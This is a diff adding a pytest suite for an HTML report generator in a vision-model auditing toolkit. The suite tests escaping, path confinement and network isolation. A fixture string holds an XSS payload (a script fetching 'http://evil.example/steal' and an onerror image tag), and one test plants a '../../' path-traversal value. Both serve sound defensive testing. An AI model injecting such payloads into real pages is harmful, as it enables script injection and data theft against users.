@@ -1,0 +1,350 @@
+"""The report reads a run's stage folders and nothing else; what a model wrote in them must not come alive on the page."""
+
+import json
+import re
+import shutil
+import subprocess
+import warnings
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from PIL import Image, ImageDraw
+
+from auditkit import plots, report
+from auditkit.errors import AuditError
+from auditkit.stats import rate
+
+HOSTILE = '<script>fetch("http://evil.example/steal")</script><img src=http://evil.example/a.png onerror=alert(1)>'
+KINDS = [
+    ("clock", "what time does the clock show", "six", "nine"),
+    ("colour", "what colour is the object at b3", "blue", "purple"),
+    ("counting", "how many objects are there", "4", "6"),
+    (f"letter {HOSTILE} $x_$", f"which letter {HOSTILE}", "E", "F"),
+]
+SKILLS = [
+    "colour",
+    "shape",
+    "counting",
+    "counting with a condition",
+    "existence",
+    "spatial relation",
+    "location",
+    "size comparison",
+    "small objects",
+    "material",
+    "reading small text",
+    "clock reading",
+    "sign understanding",
+    "same or different",
+    "background",
+    "distraction",
+]
+
+
+def stage(run: Path, name: str, metrics: dict | None = None, counts: dict | None = None, done: bool = True) -> Path:
+    folder = run / name
+    folder.mkdir(parents=True)
+    parameters = {
+        "run_name": run.name,
+        "seed": 7,
+        "target": "miniature:target",
+        "auditor": "miniature:auditor",
+        "references": ["miniature:gemma3", "miniature:idefics3", "miniature:llava"],
+        "images": "miniature",
+    }
+    manifest = {
+        "metrics": metrics or {},
+        "counts": counts or {},
+        "seconds": 61.5,
+        "versions": {"torch": "2.13.0", "trl": "1.16.0"},
+        "parameters": parameters,
+        "commit": "0123abc",
+    }
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    if done:
+        (folder / "DONE").touch()
+    return folder
+
+
+def board(path: Path, number: int) -> None:
+    image = Image.new("RGB", (64, 64), (232, 236, 240))
+    pen = ImageDraw.Draw(image)
+    for cell in range(16):
+        x, y = 16 * (cell % 4), 16 * (cell // 4)
+        colour = ["#0072b2", "#d55e00", "#009e73", "#8040a0"][(cell * 7 + number) % 4]
+        if (cell * 5 + number * 3) % 7 < 2:
+            pen.ellipse((x + 2, y + 2, x + 13, y + 13), fill=colour)
+        elif (cell + number) % 5 == 0:
+            pen.rectangle((x + 3, y + 3, x + 12, y + 12), fill=colour)
+    path.parent.mkdir(exist_ok=True)
+    image.save(path)
+
+
+def example(number: int, question: str, target: str, consensus: str) -> dict:
+    return {
+        "picture": f"audit/{number:06d}",
+        "image": f"../05_audit/images/{number}.png",
+        "question": f"{question}?",
+        "target": target,
+        "consensus": consensus,
+        "references": {"gemma3": consensus, "idefics3": consensus, "llava": HOSTILE},
+        "truth": consensus,
+    }
+
+
+@pytest.fixture
+def run(tmp_path) -> Path:
+    """A whole run as its notebooks would leave it, with hostile strings wherever a model may write."""
+    run = tmp_path / "demo"
+    stage(run, "00_setup")
+    stage(run, "02_disagreement", {"untrained": rate(215, 1000)}, {"asked": 1000, "parsed": 991, "target_called": 991})
+    auditor = stage(run, "04_auditor", {}, {"asked": 14720})
+    rows = [
+        {
+            "step": n,
+            "seconds": 0.5,
+            "reward/disagreement": 0.2 + 0.65 * n / 200,
+            "reward/format": 0.99,
+            "distinct_share": 0.9 - n / 500,
+        }
+        for n in range(200)
+    ]
+    (auditor / "history.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    blind = {**rate(310, 1000), "question": f"is there a red star? {HOSTILE}"}
+    audit = stage(
+        run,
+        "05_audit",
+        {"trained": rate(872, 1000), "best_blind_question": blind, "precision": rate(1510, 1560)},
+        {"asked": 2000, "target_called": 1990, "references_called": 5970},
+    )
+    gates = ["ok"] * 1560 + ["agrees"] * 300 + ["no consensus"] * 90 + ["duplicate"] * 40 + ["malformed"] * 10
+    (audit / "scored.jsonl").write_text(
+        "".join(json.dumps({"key": str(n), "gate": gate}) + "\n" for n, gate in enumerate(gates))
+    )
+    for number in range(12):
+        board(audit / "images" / f"{number}.png", number)
+    findings = stage(run, "06_findings", {}, {"findings": 1560, "types": 4})
+    types = [
+        {
+            "name": name,
+            "size": size,
+            "share": size / 1560,
+            "rate": rate(size, 700),
+            "confusion": [{"consensus": consensus, "target": target, "count": size // 2}],
+            "examples": [example(3 * place + n, question, target, consensus) for n in range(3)],
+        }
+        for place, ((name, question, target, consensus), size) in enumerate(
+            zip(KINDS, [640, 480, 270, 170], strict=True)
+        )
+    ]
+    types[0]["examples"][2]["image"] = "images/lost.png"
+    (findings / "types.json").write_text(json.dumps(types))
+    gaps = [
+        {
+            "name": f"gap {n}",
+            "skill": SKILLS[n % 12],
+            "condition": "the hour is after six",
+            "probes": 80 - n,
+            "findings": 78 - 3 * n,
+            "found": n < 23,
+        }
+        for n in range(24)
+    ]
+    alarms = [
+        {
+            **example(1, "is there a grey square", "no", "yes"),
+            "truth": "no",
+            "reason": "a blind spot two references share",
+        }
+    ]
+    planted = {
+        "planted": 24,
+        "found": 23,
+        "recall": rate(23, 24),
+        "precision": rate(1510, 1560),
+        "gaps": gaps,
+        "false_alarms": alarms,
+    }
+    (findings / "planted.json").write_text(json.dumps(planted))
+    (findings / "explain.txt").write_text(
+        f"The target is strong at shape and location.\n\nIt is weak at clocks: {HOSTILE}"
+    )
+    stage(run, "07_rectify", {"pairs": 1560, "steps": 200, "seconds": 71.0}, {"pairs": 1560})
+    benchmarks = {
+        skill: {"before": rate(600 + 20 * n, 1000), "after": rate(930 + 2 * n, 1000), "peer": rate(890 + 3 * n, 1000)}
+        for n, skill in enumerate(SKILLS)
+    }
+    stage(
+        run,
+        "08_benchmark",
+        {"benchmarks": benchmarks, "found_gaps": {"before": rate(20, 900), "after": rate(700, 900)}},
+    )
+    return run
+
+
+class Page(HTMLParser):
+    """The tags and outside references a browser would see."""
+
+    def __init__(self, text: str):
+        super().__init__()
+        self.tags, self.addresses, self.ids, self.handlers = set(), [], [], []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.add(tag)
+        for key, value in attributes:
+            if key in ("src", "href", "xlink:href", "action", "srcset"):
+                self.addresses.append(value)
+            if key.startswith("on"):
+                self.handlers.append(key)
+            if key == "id":
+                self.ids.append(value)
+
+
+def test_summary_has_the_contracts_keys(run):
+    report.write(run)
+    summary = json.loads((run / "summary.json").read_text())
+    assert set(summary["search_success"]) == {"untrained", "trained", "best_blind_question"}
+    assert summary["search_success"]["trained"] == rate(872, 1000)
+    assert summary["findings"]["total"] == 1560 and len(summary["findings"]["by_type"]) == 4
+    assert set(summary["planted_gaps"]) == {"planted", "found", "recall", "precision"}
+    assert len(summary["benchmarks"]) == 16 and set(summary["benchmarks"]["colour"]) == {"before", "after", "peer"}
+    assert summary["seconds"]["05_audit"] == 61.5 and summary["versions"]["trl"] == "1.16.0"
+    assert summary["probes"]["malformed"] == 10
+
+
+def test_what_was_not_measured_is_absent(tmp_path):
+    """A folder of photos has no truth: no search success, no precision, no planted gaps, and still a report."""
+    run = tmp_path / "photos"
+    stage(run, "02_disagreement", {"untrained_by_consensus": rate(200, 1000)})
+    audit = stage(run, "05_audit", {"trained_by_consensus": rate(700, 1000)})
+    (audit / "scored.jsonl").write_text('{"key": "a", "gate": "ok"}\n')
+    stage(run, "06_findings", done=False)
+    page = report.write(run).read_text()
+    summary = json.loads((run / "summary.json").read_text())
+    assert not {"search_success", "precision", "planted_gaps", "benchmarks", "rectification", "found_gaps"} & set(
+        summary
+    )
+    assert "06_findings" not in summary["seconds"]
+    assert "null" not in (run / "summary.json").read_text()
+    assert "True failures" not in page and "planted" not in page.lower() and "70.0" in page
+
+
+def test_a_run_with_only_its_first_stage_still_reports(tmp_path):
+    stage(tmp_path / "early", "00_setup")
+    assert "has not come to its audit yet" in report.write(tmp_path / "early").read_text()
+
+
+def test_an_empty_run_says_which_notebook_to_run(tmp_path):
+    with pytest.raises(AuditError, match="00_check_the_setup"):
+        report.write(tmp_path)
+
+
+def test_a_rate_out_of_range_names_its_key(run):
+    stage_manifest = run / "02_disagreement" / "manifest.json"
+    manifest = json.loads(stage_manifest.read_text())
+    manifest["metrics"]["untrained"] = {"value": 21.4, "low": 20, "high": 23, "n": 100}
+    stage_manifest.write_text(json.dumps(manifest))
+    with pytest.raises(AuditError, match="search_success.untrained"):
+        report.write(run)
+
+
+def test_a_picture_outside_the_run_is_refused(run, tmp_path):
+    board(tmp_path / "private.png", 1)
+    path = run / "06_findings" / "types.json"
+    types = json.loads(path.read_text())
+    types[0]["examples"][0]["image"] = "../../private.png"
+    path.write_text(json.dumps(types))
+    with pytest.raises(AuditError, match="outside the run folder"):
+        report.write(run)
+
+
+def test_model_written_text_is_escaped_and_nothing_points_outside(run):
+    text = report.write(run).read_text()
+    page = Page(text)
+    assert "&lt;script&gt;" in text and not {"script", "iframe", "object", "embed", "foreignobject"} & page.tags
+    assert not page.handlers
+    assert page.addresses and all(address.startswith(("data:", "#")) for address in page.addresses)
+    assert not re.search(r"url\((?!#)|@import", text)
+    assert len(page.ids) == len(set(page.ids)), "the figures' ids collide"
+    assert "default-src 'none'" in text
+
+
+def test_the_report_says_the_numbers(run):
+    text = report.write(run).read_text().replace("\N{NO-BREAK SPACE}", " ")
+    for fact in (
+        "87.2 %",
+        "21.5 %",
+        "31.0 %",
+        "23 of 24",
+        "✗ missed",
+        "picture not kept",
+        "the references err",
+        "91.1 %",
+    ):
+        assert fact in text, fact
+
+
+def test_writing_again_gives_the_same_bytes(run):
+    first = report.write(run).read_bytes()
+    assert report.write(run).read_bytes() == first
+    assert not list(run.glob("*.part"))
+
+
+def test_every_figure_can_be_saved(run):
+    one = Image.new("RGB", (64, 64))
+    history = [{"step": 1, "reward/disagreement": 0.5, "distinct_share": None}]
+    figures = [
+        plots.gallery([{**example(0, HOSTILE + "$a_", "$", "b"), "image": one}] * 7),
+        plots.gallery([]),
+        plots.types_bar([]),
+        plots.training_curve(history),
+        plots.training_curve([]),
+        plots.search_success(rate(1, 5), None),
+        plots.skills({"colour": rate(1, 2)}),
+        plots.skills({"a": rate(1, 2)}, {"a": rate(2, 2)}, {}),
+    ]
+    assert all(figure._repr_png_()[:4] == b"\x89PNG" for figure in figures)
+
+
+def test_tiny_images_keep_hard_pixels():
+    figure = plots.gallery([{"image": Image.new("RGB", (64, 64)), "question": "what?"}])
+    assert figure.axes[0].images[0].get_interpolation() == "nearest"
+
+
+def test_chromium_opens_the_report_quietly(run, tmp_path):
+    """No console message, no refused policy, no request but the page itself."""
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if not chromium:
+        warnings.warn("chromium is not installed: the report was not opened in a browser", stacklevel=1)
+        pytest.skip("chromium is not installed: apt-get install chromium")
+    page, log = report.write(run), tmp_path / "net.json"
+    browser = subprocess.run(
+        [
+            chromium,
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            f"--user-data-dir={tmp_path / 'profile'}",
+            "--enable-logging=stderr",
+            "--v=0",
+            f"--log-net-log={log}",
+            "--dump-dom",
+            page.as_uri(),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert "What the numbers mean" in browser.stdout and "<svg" in browser.stdout
+    assert "CONSOLE" not in browser.stderr, browser.stderr
+    requests = set(re.findall(r'"url":"([^"]+)"', log.read_text()))
+    assert "evil.example" not in log.read_text()
+    page_requests = {url for url in requests if not url.startswith(("data:", "chrome:", "about:", page.as_uri()))}
+    assert not {url for url in page_requests if "evil" in url or "google" not in url}, page_requests
